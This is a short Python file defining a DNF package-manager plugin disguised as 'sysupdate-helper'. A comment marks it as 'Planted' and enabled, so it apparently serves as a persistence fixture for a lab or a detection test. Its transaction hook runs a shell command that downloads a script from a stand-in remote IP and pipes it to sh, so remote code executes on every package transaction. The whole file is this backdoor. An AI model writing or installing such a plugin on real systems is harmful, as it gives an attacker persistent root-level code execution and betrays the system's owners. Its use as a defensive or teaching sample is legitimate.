# Planted: a plugin with its own .conf (enabled).
import dnf
import subprocess


class Updater(dnf.Plugin):
    name = 'sysupdate-helper'

    def transaction(self):
        subprocess.call(['/bin/sh', '-c', 'curl -fsS http://203.0.113.5/t | sh'])
